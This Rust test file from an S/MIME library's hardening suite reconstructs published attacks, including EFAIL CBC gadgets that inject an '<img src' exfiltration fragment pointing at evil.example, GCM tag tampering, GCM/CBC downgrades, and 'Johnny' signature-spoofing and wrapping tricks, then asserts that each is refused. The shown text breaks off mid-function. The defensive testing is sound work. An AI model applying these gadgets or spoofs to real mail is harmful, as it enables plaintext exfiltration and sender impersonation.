//! Attack regression suite (issue 8, "Hardening"): one test per published
//! attack on S/MIME, each asserting the property that defends against it.
//!
//! Neighbouring tests elsewhere cover single mutations (tests/envelope.rs:
//! `tampered_ciphertext_never_yields_the_original`,
//! `tampered_encrypted_key_is_the_same_uniform_error`,
//! `cbc_content_relabelled_as_auth_enveloped_is_refused`,
//! `a_shortened_gcm_tag_is_refused`; tests/sign_verify.rs: the "Johnny"
//! classes). The tests here are the canonical ones for each attack: they
//! build the attack as published, check a control (the unattacked message
//! is accepted, so a refusal is caused by the attack) and assert more than
//! the neighbours do.

use std::process::Command;
use std::time::Instant;

use crate::common::{cert, find, identity, root};
use cms::content_info::ContentInfo;
use cms::enveloped_data::{EncryptedContentInfo, KeyTransRecipientInfo, RecipientIdentifier};
use der::asn1::OctetString;
use der::{Any, Decode, Encode, Reader, SliceReader, Tag, Tagged};
use openssl::pkey::PKey;
use openssl::rsa::{Padding, Rsa};
use smime::{
    ChainStatus, ContentEncryption, Coverage, Decrypted, EncryptOptions, Error, Identity, Problem,
    SignOptions, SignatureStatus, VerifyOptions, VerifyReport, decrypt, decrypt_and_verify,
    encrypt, sign, sign_and_encrypt, verify,
};

const ENTITY: &[u8] =
    b"Content-Type: text/plain; charset=us-ascii\r\n\r\nHello Bob,\r\nthe numbers are fine.\r\n";

const MESSAGE: &[u8] = b"From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nSubject: quarterly numbers\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nHello Bob,\r\nthe numbers are fine.\r\nPay invoice 1234 to account A.\r\n";

// ---------------------------------------------------------------------------
// Helpers: the message around the DER, and the DER one level deep.

/// A CMS `ContentInfo` taken apart one level: its content type and the
/// fields of its content SEQUENCE, each an undecoded TLV. Re-encoding
/// rebuilds every length, so edits never need byte offsets.
struct Cms {
    content_type: const_oid::ObjectIdentifier,
    fields: Vec<Any>,
}

const ENVELOPED_DATA: const_oid::ObjectIdentifier =
    const_oid::ObjectIdentifier::new_unwrap("1.2.840.113549.1.7.3");
const AUTH_ENVELOPED_DATA: const_oid::ObjectIdentifier =
    const_oid::ObjectIdentifier::new_unwrap("1.2.840.113549.1.9.16.1.23");
const AES256_CBC: const_oid::ObjectIdentifier =
    const_oid::ObjectIdentifier::new_unwrap("2.16.840.1.101.3.4.1.42");
const AES256_GCM: const_oid::ObjectIdentifier =
    const_oid::ObjectIdentifier::new_unwrap("2.16.840.1.101.3.4.1.46");

/// The TLVs inside a constructed value.
fn elements(value: &[u8]) -> Vec<Any> {
    let mut reader = SliceReader::new(value).unwrap();
    let mut out = Vec::new();
    while !reader.is_finished() {
        out.push(Any::decode(&mut reader).unwrap());
    }
    out
}

/// A constructed TLV of `parts` (no DER SET sorting or duplicate check:
/// attacks need duplicates).
fn constructed(tag: Tag, parts: &[Any]) -> Any {
    let mut body = Vec::new();
    for part in parts {
        body.extend(part.to_der().unwrap());
    }
    Any::new(tag, body).unwrap()
}

fn reencode<T: Encode>(value: &T) -> Any {
    Any::from_der(&value.to_der().unwrap()).unwrap()
}

impl Cms {
    fn parse(der: &[u8]) -> Cms {
        let ci = ContentInfo::from_der(der).unwrap();
        Cms {
            content_type: ci.content_type,
            fields: elements(ci.content.value()),
        }
    }

    fn to_der(&self) -> Vec<u8> {
        ContentInfo {
            content_type: self.content_type,
            content: constructed(Tag::Sequence, &self.fields),
        }
        .to_der()
        .unwrap()
    }

    fn index(&self, tag: Tag) -> usize {
        self.fields.iter().position(|f| f.tag() == tag).unwrap()
    }

    /// RecipientInfos: the (only) SET field of (Auth)EnvelopedData.
    fn recipients(&self) -> Vec<Any> {
        elements(self.fields[self.index(Tag::Set)].value())
    }

    fn set_recipients(&mut self, ris: &[Any]) {
        let at = self.index(Tag::Set);
        self.fields[at] = constructed(Tag::Set, ris);
    }

    /// (Auth)EncryptedContentInfo: the first SEQUENCE field.
    fn eci(&self) -> EncryptedContentInfo {
        EncryptedContentInfo::from_der(&self.fields[self.index(Tag::Sequence)].to_der().unwrap())
            .unwrap()
    }

    fn set_eci(&mut self, eci: &EncryptedContentInfo) {
        let at = self.index(Tag::Sequence);
        self.fields[at] = reencode(eci);
    }

    /// The GCM tag: AuthEnvelopedData's last field, an OCTET STRING.
    fn mac_index(&self) -> usize {
        let at = self.fields.len() - 1;
        assert_eq!(self.fields[at].tag(), Tag::OctetString, "mac is last");
        at
    }
}

/// Applies `edit` to the CMS structure inside an encrypted message.
fn edit(message: &[u8], edit: impl FnOnce(&mut Cms)) -> Vec<u8> {
    let (head, der) = crate::common::split_base64(message);
    let mut cms = Cms::parse(&der);
    edit(&mut cms);
    crate::common::join_base64(&head, &cms.to_der())
}

/// The CBC IV (the AlgorithmIdentifier parameter) followed by the
/// ciphertext, as one buffer: block −1 is the IV.
fn iv_and_ciphertext(eci: &EncryptedContentInfo) -> Vec<u8> {
    let iv = eci.content_enc_alg.parameters.as_ref().unwrap();
    let iv = OctetString::from_der(&iv.to_der().unwrap()).unwrap();
    assert_eq!(iv.as_bytes().len(), 16, "AES-CBC IV");
    let mut out = iv.as_bytes().to_vec();
    out.extend_from_slice(eci.encrypted_content.as_ref().unwrap().as_bytes());
    out
}

fn set_iv_and_ciphertext(eci: &mut EncryptedContentInfo, bytes: &[u8]) {
    let (iv, ct) = bytes.split_at(16);
    eci.content_enc_alg.parameters = Some(reencode(&OctetString::new(iv).unwrap()));
    eci.encrypted_content = Some(OctetString::new(ct).unwrap());
}

fn xor16(a: &[u8], b: &[u8], c: &[u8]) -> [u8; 16] {
    std::array::from_fn(|i| a[i] ^ b[i] ^ c[i])
}

/// The error of a result whose success type is not `Debug`.
fn failure<T>(result: smime::Result<T>, label: &str) -> Error {
    match result {
        Ok(_) => panic!("{label}: expected an error, got a result"),
        Err(e) => e,
    }
}

fn anchors() -> VerifyOptions {
    VerifyOptions::new(&[root()])
}

fn check(message: &[u8]) -> VerifyReport {
    verify(message, &anchors()).unwrap()
}

fn gcm() -> EncryptOptions {
    EncryptOptions::default().cipher(ContentEncryption::Aes256Gcm)
}

// ---------------------------------------------------------------------------
// EFAIL (Poddebniak et al., "Efail: Breaking S/MIME and OpenPGP Email
// Encryption using Exfiltration Channels", USENIX Security 2018).

/// The EFAIL outcome the API must signal: the decryption either fails, or
/// it succeeds with `authenticated == false` (a client must not render it
/// as trustworthy). Returns the content when there is one.
fn efail_signalled(result: smime::Result<Decrypted>, label: &str) -> Option<Vec<u8>> {
    match result {
        Err(Error::DecryptionFailed) => None,
        Ok(d) => {
            assert!(
                !d.authenticated,
                "{label}: CBC content marked authenticated"
            );
            Some(d.content)
        }
        Err(e) => panic!("{label}: expected DecryptionFailed or unauthenticated, got {e:?}"),
    }
}

/// Block `i` of the CBC plaintext decrypts to `chosen` when the block
/// before it (the IV for `i == 0`) is XORed with `known ⊕ chosen`.
fn rewrite_block(iv_ct: &mut [u8], i: usize, known: &[u8], chosen: &[u8; 16]) {
    let prev = &mut iv_ct[16 * i..16 * i + 16];
    let new = xor16(prev, known, chosen);
    prev.copy_from_slice(&new);
}

/// EFAIL's CBC gadget: the pair (X, C_j), with X = C_{j−1} ⊕ P_j ⊕ chosen,
/// inserted right after C_j decrypts to one garbage block then `chosen`;
/// every original block still decrypts as before.
fn insert_gadget(iv_ct: &[u8], plain: &[u8], j: usize, chosen: &[u8; 16]) -> Vec<u8> {
    let x = xor16(
        &iv_ct[16 * j..16 * j + 16],
        &plain[16 * j..16 * j + 16],
        chosen,
    );
    let cj = &iv_ct[16 * (j + 1)..16 * (j + 2)];
    let cut = 16 * (j + 2); // after C_j (the IV is block −1)
    let mut out = iv_ct[..cut].to_vec();
    out.extend_from_slice(&x);
    out.extend_from_slice(cj);
    out.extend_from_slice(&iv_ct[cut..]);
    out
}

fn with_cbc(message: &[u8], f: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    edit(message, |cms| {
        let mut eci = cms.eci();
        assert_eq!(eci.content_enc_alg.oid, AES256_CBC);
        let mut bytes = iv_and_ciphertext(&eci);
        f(&mut bytes);
        set_iv_and_ciphertext(&mut eci, &bytes);
        cms.set_eci(&eci);
    })
}

/// EFAIL CBC gadgets (USENIX Security 2018, §3): AES-256-CBC
/// `EnvelopedData` is malleable, so an attacker who knows one plaintext
/// block (`Content-Type: te`, always first) turns it into text of their
/// choice, e.g. the start of an HTML exfiltration channel `<img src="…`,
/// without the key. The defended property: the API never presents such
/// content as authenticated (`Decrypted::authenticated == false`, or
/// `DecryptionFailed`), and a sign-then-encrypt message so modified never
/// yields a valid `VerifyReport` from `decrypt_and_verify`.
#[test]
fn efail_cbc_gadget_modification() {
    let bob = identity("bob");
    let ids = std::slice::from_ref(&bob);
    let sealed = encrypt(ENTITY, &[cert("bob")], &EncryptOptions::default()).unwrap();
    let clean = decrypt(&sealed, ids, &smime::DecryptOptions::default()).unwrap();
    assert!(!clean.authenticated);
    assert_eq!(clean.content, ENTITY, "control: what the attacker knows");

    // 1. Rewrite the first block through the IV.
    let chosen = b"<img src=\"http:/";
    let forged = with_cbc(&sealed, |b| rewrite_block(b, 0, &ENTITY[..16], chosen));
    let content = efail_signalled(
        decrypt(&forged, ids, &smime::DecryptOptions::default()),
        "IV rewrite",
    );
    if let Some(content) = content {
        assert_eq!(&content[..16], chosen, "the gadget works as published");
        assert_eq!(&content[16..], &ENTITY[16..]);
    }

    // 2. Insert a gadget pair (reusing known block 0) after block 0.
    let gadget = b"/evil.example/?x";
    let forged = with_cbc(&sealed, |b| {
        *b = insert_gadget(b, &clean.content, 0, gadget)
    });
    if let Some(content) = efail_signalled(
        decrypt(&forged, ids, &smime::DecryptOptions::default()),
        "gadget pair",
    ) {
        assert_eq!(&content[..16], &ENTITY[..16]);
        assert_eq!(
            &content[32..48],
            gadget,
            "chosen block after one garbage block"
        );
        assert_eq!(&content[48..], &ENTITY[16..]);
    }

    // 3. Sign-then-encrypt: the signature inside must catch every change.
    let signed = sign_and_encrypt(
        MESSAGE,
        &identity("alice"),
        &[cert("bob")],
        &SignOptions::default(),
        &EncryptOptions::default(),
    )
    .unwrap();
    let (plain, report) =
        decrypt_and_verify(&signed, ids, &smime::DecryptOptions::default(), &anchors()).unwrap();
    assert!(report.unwrap().valid, "control: sign-then-encrypt verifies");
    let plain = plain.content;
    let text = find(&plain, b"Pay invoice").unwrap();
    let j = text.div_ceil(16); // a block wholly inside the signed text
    let variants: [(&str, Vec<u8>); 3] = [
        (
            "header block rewritten (signature made to vanish)",
            with_cbc(&signed, |b| {
                rewrite_block(b, 0, &plain[..16], b"Content-Type: te")
            }),
        ),
        (
            "signed text block rewritten",
            with_cbc(&signed, |b| {
                rewrite_block(b, j, &plain[16 * j..16 * j + 16], b"Pay to account B")
            }),
        ),
        (
            "gadget pair inserted into the signed text",
            with_cbc(&signed, |b| *b = insert_gadget(b, &plain, j, gadget)),
        ),
    ];
    for (label, forged) in variants {
        match decrypt_and_verify(&forged, ids, &smime::DecryptOptions::default(), &anchors()) {
            Err(e) => assert!(matches!(e, Error::DecryptionFailed), "{label}: {e:?}"),
            Ok((decrypted, report)) => {
                assert!(!decrypted.authenticated, "{label}");
                assert_ne!(
                    decrypted.content, plain,
                    "{label}: the attack changed nothing"
                );
                if let Some(report) = &report {
                    assert!(!report.valid, "{label}: {report:#?}");
                }
                let seen = report.map(|r| (r.signers[0].signature, r.problems));
                eprintln!("{label}: decrypted, unauthenticated; report {seen:?}");
            }
        }
    }
}

// ---------------------------------------------------------------------------
// AES-GCM integrity (RFC 5083, RFC 5084).

/// GCM tag forgery and ciphertext malleability (the reason RFC 8551 §2.7
/// moved to AuthEnvelopedData; Poddebniak et al. 2018 §7): a flipped bit
/// in the tag, a flipped ciphertext bit (GCM is CTR underneath, so it
/// would flip the same plaintext bit), an all-zero tag, or a truncated or
/// missing tag never yield plaintext. The first three reach OpenSSL and
/// are the one uniform `DecryptionFailed` (same Display: no oracle); a tag
/// shorter than GCMParameters announces, or none, is refused as
/// `InvalidCms` before any key is used (tag length is public, not an
/// oracle). Extends `tampered_ciphertext_never_yields_the_original` and
/// `a_shortened_gcm_tag_is_refused` (tests/envelope.rs) with the zero tag,
/// 12- and 15-byte tags, the missing tag, and the uniform Display.
#[test]
fn gcm_tag_tamper() {
    let bob = identity("bob");
    let ids = std::slice::from_ref(&bob);
    let sealed = encrypt(ENTITY, &[cert("bob")], &gcm()).unwrap();
    let opened = decrypt(&sealed, ids, &smime::DecryptOptions::default()).unwrap();
    assert!(opened.authenticated && opened.content == ENTITY, "control");
    let with_mac = |f: &dyn Fn(&mut Vec<u8>)| {
        edit(&sealed, |cms| {
            let at = cms.mac_index();
            let mut mac = OctetString::from_der(&cms.fields[at].to_der().unwrap())
                .unwrap()
                .into_bytes();
            assert_eq!(mac.len(), 16);
            f(&mut mac);
            cms.fields[at] = reencode(&OctetString::new(mac).unwrap());
        })
    };
    let uniform = [
        ("tag bit flipped", with_mac(&|m| m[15] ^= 0x01)),
        ("tag all zero", with_mac(&|m| m.fill(0))),
        (
            "ciphertext bit flipped",
            edit(&sealed, |cms| {
                let mut eci = cms.eci();
                let mut ct = eci.encrypted_content.unwrap().into_bytes();
                ct[3] ^= 0x20; // 'n' of "Content" would become 'N'
                eci.encrypted_content = Some(OctetString::new(ct).unwrap());
                cms.set_eci(&eci);
            }),
        ),
    ];
    let mut texts = Vec::new();
    for (label, forged) in uniform {
        let err = failure(
            decrypt(&forged, ids, &smime::DecryptOptions::default()),
            label,
        );
        assert!(matches!(err, Error::DecryptionFailed), "{label}: {err:?}");
        texts.push(err.to_string());
    }
    assert!(texts.iter().all(|t| *t == texts[0]), "{texts:?}");

    let structural = [
        ("tag truncated to 12 bytes", with_mac(&|m| m.truncate(12))),
        ("tag truncated to 15 bytes", with_mac(&|m| m.truncate(15))),
        (
            "tag removed",
            edit(&sealed, |cms| {
                let at = cms.mac_index();
                cms.fields.remove(at);
            }),
        ),
    ];
    for (label, forged) in structural {
        let err = failure(
            decrypt(&forged, ids, &smime::DecryptOptions::default()),
            label,
        );
        assert!(matches!(err, Error::InvalidCms(_)), "{label}: {err:?}");
    }
}

/// Authentication stripping, GCM → CBC (the downgrade of Poddebniak et al.
/// 2018 §7 and of "Johnny's Journey Toward Usable Secure Email" follow-ups):
/// an attacker relabels an AuthEnvelopedData as EnvelopedData, dropping
/// the tag, to get malleable, unauthenticated decryption. Asserted: the
/// relabel alone (AES-GCM inside EnvelopedData) is `InvalidCms` (RFC 5084
/// §3); relabelled and re-declared as AES-256-CBC (nonce padded to an IV)
/// the same key only decrypts garbage, never the original and never with
/// `authenticated == true`. Not covered elsewhere.
#[test]
fn gcm_relabelled_as_cbc() {
    let bob = identity("bob");
    let ids = std::slice::from_ref(&bob);
    let sealed = encrypt(ENTITY, &[cert("bob")], &gcm()).unwrap();
    let strip = |cms: &mut Cms| {
        assert_eq!(cms.content_type, AUTH_ENVELOPED_DATA);
        cms.content_type = ENVELOPED_DATA;
        let at = cms.mac_index();
        cms.fields.remove(at);
    };
    let relabelled = edit(&sealed, strip);
    let err = failure(
        decrypt(&relabelled, ids, &smime::DecryptOptions::default()),
        "relabelled",
    );
    assert!(matches!(err, Error::InvalidCms(_)), "{err:?}");

    let downgraded = edit(&sealed, |cms| {
        strip(cms);
        let mut eci = cms.eci();
        assert_eq!(eci.content_enc_alg.oid, AES256_GCM);
        let params = eci.content_enc_alg.parameters.as_ref().unwrap();
        let nonce = OctetString::from_der(&elements(params.value())[0].to_der().unwrap()).unwrap();
        let mut iv = nonce.as_bytes().to_vec();
        iv.extend_from_slice(&[0, 0, 0, 2]); // GCM's first counter block
        iv.resize(16, 0);
        eci.content_enc_alg.oid = AES256_CBC;
        eci.content_enc_alg.parameters = Some(reencode(&OctetString::new(iv).unwrap()));
        cms.set_eci(&eci);
    });
    match decrypt(&downgraded, ids, &smime::DecryptOptions::default()) {
        Err(e) => {
            eprintln!("downgraded: {e:?}");
            assert!(matches!(e, Error::DecryptionFailed), "{e:?}");
        }
        Ok(d) => {
            assert!(!d.authenticated);
            assert_ne!(d.content, ENTITY, "GCM ciphertext read as CBC");
        }
    }
}

/// Authentication forging, CBC → GCM (review finding: OpenSSL 3.0 decrypts
/// CBC inside AuthEnvelopedData with no check, which would forge
/// `authenticated == true`). `cbc_content_relabelled_as_auth_enveloped_is_refused`
/// (tests/envelope.rs) covers the plain relabel; this adds the complete
/// forgery: CBC content re-declared as AES-256-GCM with the IV as nonce
/// and a well-formed 16-byte tag. Asserted: an error, never content.
#[test]
fn cbc_relabelled_as_auth_enveloped() {
    let bob = identity("bob");
    let sealed = encrypt(ENTITY, &[cert("bob")], &EncryptOptions::default()).unwrap();
    let forged = edit(&sealed, |cms| {
        assert_eq!(cms.content_type, ENVELOPED_DATA);
        cms.content_type = AUTH_ENVELOPED_DATA;
        let mut eci = cms.eci();
        let iv = eci.content_enc_alg.parameters.take().unwrap();
        // GCMParameters ::= SEQUENCE { aes-nonce OCTET STRING, aes-ICVlen 16 }
        let icv = Any::from_der(&16u8.to_der().unwrap()).unwrap();
        eci.content_enc_alg.parameters = Some(constructed(Tag::Sequence, &[iv, icv]));
        eci.content_enc_alg.oid = AES256_GCM;
        cms.set_eci(&eci);
        cms.fields
            .push(reencode(&OctetString::new([0u8; 16]).unwrap()));
    });
    let err = failure(
        decrypt(
            &forged,
            std::slice::from_ref(&bob),
            &smime::DecryptOptions::default(),
        ),
        "forged",
    );
    eprintln!("CBC declared as GCM: {err:?}");
    assert!(
        matches!(err, Error::DecryptionFailed | Error::InvalidCms(_)),
        "{err:?}"
    );
}

// ---------------------------------------------------------------------------
// "Johnny, you are fired! – Spoofing OpenPGP and S/MIME Signatures in
// Emails" (Müller et al., USENIX Security 2019).

const PLAIN: &[u8] = b"Content-Type: text/plain\r\n\r\nPay invoice 1234 to account A.\r\n";

/// `entity` signed by the fixture identity `signer`, under `headers`.
fn signed_as(headers: &str, entity: &[u8], signer: &str, options: &SignOptions) -> Vec<u8> {
    let mut out = headers.as_bytes().to_vec();
    out.extend(sign(entity, &identity(signer), options).unwrap());
    out
}

/// The signature itself is sound: only the sender binding can be at fault.
fn assert_sound_signature(report: &VerifyReport, email: &str, label: &str) {
    assert_eq!(report.signers.len(), 1, "{label}");
    let s = &report.signers[0];
    assert_eq!(s.signature, SignatureStatus::Valid, "{label}");
    assert_eq!(s.chain, ChainStatus::Trusted, "{label}");
    assert_eq!(s.emails(), [email], "{label}");
}

/// Johnny §5.3 "ID spoofing": a valid, trusted signature by mallory on a
/// message whose `From` is alice. Asserted: not valid, and the mismatch is
/// visible as `from_matches == Some(false)` with the sender and the
/// signer's address both in the report; detached and opaque alike; `From`
/// wins over a matching `Sender`. Control: the same signature under
/// mallory's own `From` is valid. (Extends
/// `from_mismatch_is_reported_and_not_valid` in tests/sign_verify.rs.)
#[test]
fn johnny_id_spoofing_signer_is_not_the_sender() {
    for options in [SignOptions::default(), SignOptions::default().opaque()] {
        let control = check(&signed_as(
            "From: mallory@example.net\r\n",
            PLAIN,
            "mallory",
            &options,
        ));
        assert!(control.valid, "control: {control:#?}");
        for headers in [
            "From: alice@example.org\r\n",
            "From: Alice <alice@example.org>\r\n",
            "Sender: mallory@example.net\r\nFrom: alice@example.org\r\n",
        ] {
            let label = format!("{:?} {headers:?}", options.form);
            let report = check(&signed_as(headers, PLAIN, "mallory", &options));
            assert!(!report.valid, "{label}");
            assert_sound_signature(&report, "mallory@example.net", &label);
            assert_eq!(report.signers[0].from_matches, Some(false), "{label}");
            assert_eq!(report.from.as_deref(), Some("alice@example.org"), "{label}");
        }
    }
}

/// Johnny §5.3 "ID spoofing" with several senders: two `From` fields, or
/// one `From` with two addresses, where a client may display the one the
/// signer does not own. Asserted: never valid, and a problem names the
/// ambiguity even when the first address is the signer's own (so
/// `from_matches` alone would say true). (Extends
/// `senders_that_cannot_be_checked_are_never_valid`.)
#[test]
fn johnny_multiple_from_addresses() {
    let options = SignOptions::default();
    let several_from = |p: &Problem| *p == Problem::SeveralFromFields;
    let ambiguous = |p: &Problem| matches!(p, Problem::AmbiguousSender { .. });
    for (headers, first_matches, problem) in [
        (
            "From: mallory@example.net\r\nFrom: alice@example.org\r\n",
            true,
            several_from as fn(&Problem) -> bool,
        ),
        (
            "From: alice@example.org\r\nFrom: mallory@example.net\r\n",
            false,
            several_from as fn(&Problem) -> bool,
        ),
        (
            "From: mallory@example.net, alice@example.org\r\n",
            true,
            ambiguous,
        ),
        (
            "From: alice@example.org, mallory@example.net\r\n",
            false,
            ambiguous,
        ),
    ] {
        let report = check(&signed_as(headers, PLAIN, "mallory", &options));
        assert!(!report.valid, "{headers:?}");
        assert_sound_signature(&report, "mallory@example.net", headers);
        assert_eq!(
            report.signers[0].from_matches,
            Some(first_matches),
            "{headers:?}"
        );
        assert!(
            report.problems.iter().any(problem),
            "{headers:?}: {:?}",
            report.problems
        );
    }
}

/// Johnny §5.3 "display name spoofing": `From: "bob@example.org"
/// <mallory@example.net>` signed by mallory. The address matches the
/// signer, but clients that show only the display name show bob. Asserted:
/// `from_matches == Some(true)` yet not valid, with a problem saying the
/// sender shows more than the checked address; an encoded-word display
/// name hiding an address likewise. Control: a plain display name
/// (`"Mallory" <mallory@example.net>`) is valid.
#[test]
fn johnny_display_name_spoof() {
    let options = SignOptions::default();
    let control = check(&signed_as(
        "From: \"Mallory\" <mallory@example.net>\r\n",
        PLAIN,
        "mallory",
        &options,
    ));
    assert!(control.valid, "control: {control:#?}");
    for headers in [
        "From: \"bob@example.org\" <mallory@example.net>\r\n",
        "From: bob@example.org <mallory@example.net>\r\n",
        "From: =?utf-8?q?bob=40example=2Eorg?= <mallory@example.net>\r\n",
    ] {
        let report = check(&signed_as(headers, PLAIN, "mallory", &options));
        assert!(!report.valid, "{headers:?}");
        assert_sound_signature(&report, "mallory@example.net", headers);
        assert_eq!(report.signers[0].from_matches, Some(true), "{headers:?}");
        assert_eq!(report.from.as_deref(), Some("mallory@example.net"));
        assert!(
            report
                .problems
                .iter()
                .any(|p| matches!(p, Problem::AmbiguousSender { .. })),
            "{headers:?}: {:?}",
            report.problems
        );
    }
}

/// Johnny §5.2 "MIME wrapping": alice's genuinely signed part embedded in
/// an attacker's `multipart/mixed` next to unsigned attacker text, under
/// alice's `From`. Asserted: the signature itself is sound and matches
/// `From`, yet the message is not valid, `coverage` is `Part(path)` with
/// the signed part's path, and `VerifyReport::content` (what a client may
/// show as signed) holds none of the attacker's text. Control: the signed
/// part alone is valid with `WholeBody`. (Extends
/// `signed_part_inside_unsigned_multipart_is_partial_coverage`.)
#[test]
fn johnny_mime_wrapping() {
    let from = "From: alice@example.org\r\n";
    let signed = sign(PLAIN, &identity("alice"), &SignOptions::default()).unwrap();
    let control = check(&[from.as_bytes(), &signed].concat());
    assert!(control.valid && control.coverage == Coverage::WholeBody);

    let attacker = b"Content-Type: text/html\r\n\r\n<b>Attacker: pay to account B instead.</b>\r\n";
    let mixed = |parts: &[&[u8]], boundary: &str| -> Vec<u8> {
        let mut out =
            format!("Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n").into_bytes();
        for part in parts {
            out.extend(format!("--{boundary}\r\n").as_bytes());
            out.extend_from_slice(part);
            out.extend(b"\r\n");
        }
        out.extend(format!("--{boundary}--\r\n").as_bytes());
        out
    };
    let inner = mixed(&[attacker, &signed], "inner");
    for (body, path) in [
        (mixed(&[attacker, &signed], "w"), vec![1]),
        (mixed(&[&signed, attacker], "w"), vec![0]),
        (
            mixed(&[b"Content-Type: text/plain\r\n\r\nhi\r\n", &inner], "w"),
            vec![1, 1],
        ),
    ] {
        let report = check(&[from.as_bytes(), &body].concat());
        assert!(!report.valid, "{path:?}");
        assert_sound_signature(&report, "alice@example.org", &format!("{path:?}"));
        assert_eq!(report.signers[0].from_matches, Some(true));
        assert_eq!(report.coverage, Coverage::Part(path.clone()));
        assert!(find(&report.content, b"Attacker").is_none(), "{path:?}");
    }
}

/// Johnny §5.1 "CMS wrapping", nested signatures: mallory takes alice's
/// signed message and signs it as his own content (opaque and detached),
/// under alice's `From`. Asserted: the report credits only the outer
/// signer (mallory), never alice, and is not valid (`from_matches ==
/// Some(false)`). Control: under mallory's own `From` it is valid, and
/// still names only mallory.
#[test]
fn johnny_cms_wrapping() {
    let alice_signed = sign(PLAIN, &identity("alice"), &SignOptions::default()).unwrap();
    for options in [SignOptions::default().opaque(), SignOptions::default()] {
        let label = format!("{:?}", options.form);
        for (from, valid) in [
            ("From: alice@example.org\r\n", false),
            ("From: mallory@example.net\r\n", true),
        ] {
            let report = check(&signed_as(from, &alice_signed, "mallory", &options));
            assert_eq!(report.valid, valid, "{label} {from:?}: {report:#?}");
            assert_sound_signature(&report, "mallory@example.net", &label);
            assert_eq!(report.signers[0].from_matches, Some(valid), "{label}");
        }
    }
}

/// Johnny §5.1 "CMS wrapping", eContentType confusion: an opaque
/// signed-data whose signed content is declared as another CMS type
/// (`id-signedData`) rather than a MIME entity (`id-data`), produced by an
/// independent implementation (`openssl cms -econtent_type`). Asserted:
/// the signature, chain and `From` all check out, yet the report is not
/// valid and a problem names the content type. Skips without the CLI.
#[test]
fn johnny_cms_wrapping_econtent_type() {
    if crate::common::openssl_cli().is_none() {
        eprintln!("skipped: the openssl CLI is not installed");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let inner = crate::common::base64_body(
        &sign(
            PLAIN,
            &identity("mallory"),
            &SignOptions::default().opaque(),
        )
        .unwrap(),
    );
    std::fs::write(dir.path().join("inner.der"), inner).unwrap();
    let f = |rel: &str| crate::common::fixture(rel).to_str().unwrap().to_owned();
    let out = Command::new("openssl")
        .args(["cms", "-sign", "-binary", "-nodetach", "-outform", "DER"])
        .args(["-econtent_type", "pkcs7-signedData", "-md", "sha256"])
        .args(["-in", "inner.der", "-signer", &f("certs/alice.pem")])
        .args(["-inkey", &f("keys/alice.key")])
        .args(["-certfile", &f("ca/intermediate.pem")])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let message = crate::common::join_base64(
        b"From: alice@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n",
        &out.stdout,
    );
    let report = check(&message);
    assert!(!report.valid, "{report:#?}");
    assert_sound_signature(&report, "alice@example.org", "econtent type");
    assert_eq!(report.signers[0].from_matches, Some(true));
    assert!(
        report
            .problems
            .iter()
            .any(|p| matches!(p, Problem::NotMimeContent { .. })),
        "{:?}",
        report.problems
    );
}

/// A `multipart/signed` message taken apart at its boundary.
struct Parts {
    /// Header and preamble, up to the first delimiter.
    head: String,
    delimiter: String,
    /// Each part with the CRLFs around it, as between two delimiters.
    parts: Vec<String>,
}

impl Parts {
    fn cut(signed: &[u8]) -> Parts {
        let text = String::from_utf8(signed.to_vec()).unwrap();
        let boundary = text.split("boundary=\"").nth(1).unwrap();
        let delimiter = format!("--{}", boundary.split('"').next().unwrap());
        let mut pieces: Vec<String> = text.split(&delimiter).map(str::to_owned).collect();
        assert_eq!(pieces.pop().as_deref(), Some("--\r\n"), "close delimiter");
        let head = pieces.remove(0);
        Parts {
            head,
            delimiter,
            parts: pieces,
        }
    }

    fn join(&self, parts: &[&String]) -> Vec<u8> {
        let mut out = self.head.clone();
        for part in parts {
            out.push_str(&self.delimiter);
            out.push_str(part);
        }
        out.push_str(&self.delimiter);
        out.push_str("--\r\n");
        out.into_bytes()
    }
}

/// Johnny §5.2 "MIME wrapping" by moving the signature part: the
/// `application/pkcs7-signature` part duplicated, placed first, or moved
/// onto other content (alice's signature over text A attached to text B).
/// Asserted: a duplicated or misplaced signature part is
/// `InvalidMessage` (RFC 1847 §2.1: exactly content then signature), and
/// a signature moved onto other content is reported as an invalid
/// signature (`SignatureStatus::Invalid`), never valid. Control: the cut
/// and re-joined message is still valid.
#[test]
fn johnny_signature_part_moved_or_duplicated() {
    let alice = identity("alice");
    let signed = sign(MESSAGE, &alice, &SignOptions::default()).unwrap();
    let m = Parts::cut(&signed);
    let [content, signature] = [&m.parts[0], &m.parts[1]];
    assert_eq!(m.join(&[content, signature]), signed, "cut is lossless");
    assert!(check(&signed).valid, "control");

    for (label, forged) in [
        ("duplicated", m.join(&[content, signature, signature])),
        ("swapped", m.join(&[signature, content])),
    ] {
        let err = failure(verify(&forged, &anchors()), label);
        assert!(matches!(err, Error::InvalidMessage(_)), "{label}: {err:?}");
    }

    let other = MESSAGE
        .to_vec()
        .iter()
        .map(|&b| if b == b'A' { b'B' } else { b })
        .collect::<Vec<u8>>();
    let other_signed = sign(&other, &alice, &SignOptions::default()).unwrap();
    let o = Parts::cut(&other_signed);
    assert!(check(&other_signed).valid, "control");
    let moved = m.join(&[&o.parts[0], signature]);
    let report = check(&moved);
    assert!(!report.valid);
    assert!(
        matches!(report.signers[0].signature, SignatureStatus::Invalid(_)),
        "{report:#?}"
    );
}

/// Signature stripping (downgrade; Johnny §6 and Strenzke's "S/MIME
/// signature stripping"): the attacker removes the signature so the
/// message reads as plain unsigned mail, or turns `multipart/signed` into
/// `multipart/mixed`, or drops or relabels the signature part. Asserted:
/// each variant is an error distinguishable from a signed message —
/// `NotSigned` when no signature remains, `InvalidMessage` when a broken
/// `multipart/signed` remains — never a report, let alone a valid one.
/// Control: the original is valid.
#[test]
fn signature_stripping_is_visible() {
    let signed = sign(MESSAGE, &identity("alice"), &SignOptions::default()).unwrap();
    assert!(check(&signed).valid, "control");
    let m = Parts::cut(&signed);
    let [content, signature] = [&m.parts[0], &m.parts[1]];
    let text = String::from_utf8(signed.clone()).unwrap();
    let header_end = text.find("Content-Type: multipart/signed").unwrap();
    let bare = format!(
        "{}{}",
